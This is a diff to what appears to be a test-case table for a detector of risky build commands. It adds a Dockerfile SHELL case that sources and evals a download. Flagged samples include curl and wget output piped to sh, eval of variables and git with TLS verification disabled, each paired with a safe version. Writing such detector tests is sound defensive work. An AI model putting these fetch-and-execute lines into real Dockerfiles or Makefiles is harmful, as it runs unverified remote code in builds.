@@ -83,6 +83,7 @@ CASES = [
     Case("RUN over rows with comments", CODE, "{case}/Dockerfile", IMAGE, "RUN set -e; \\\n    # tools\n    curl -sSL https://example.org/x.sh | \\\n    sh", "RUN set -e; \\\n    # curl -sSL https://example.org/x.sh | sh\n    make", 5),
     Case("RUN with a document", CODE, "{case}/Dockerfile", IMAGE, "RUN <<END\nset -e\ncurl -sSL https://example.org/x.sh | sh\nEND", "COPY <<END /notes\nset -e\ncurl -sSL https://example.org/x.sh | sh\nEND", 5),
     Case("ENTRYPOINT in brackets", CODE, "{case}/Dockerfile", IMAGE, 'ENTRYPOINT ["sh", "-c", "wget -qO- https://example.org/x.sh | sh"]', 'ENTRYPOINT ["sh", "-c", "exec node server.js"]', 3),
+    Case("SHELL that sources a download", CODE, "{case}/Dockerfile", IMAGE, 'SHELL ["/bin/bash", "-c", "source <(wget -qO- https://example.org/env); eval \\"$0\\""]', 'SHELL ["/bin/bash", "-euo", "pipefail", "-c"]', 3),
     Case("CMD that evaluates", CODE, "{case}/Dockerfile", IMAGE, 'CMD eval "$START"', 'CMD eval "$(ssh-agent -s)"', 3, 0.6),
     Case("certificates in an image", TLS, "{case}/build.Dockerfile", IMAGE, "RUN git -c http.sslVerify=false clone https://example.org/x", "RUN git clone https://example.org/x", 3),
     Case("a recipe", CODE, "{case}/Makefile", MAKE, "@curl -sSL $(URL) | sh", "@curl -fsSL $(URL) -o x.sh && sha256sum -c x.sum", 5),
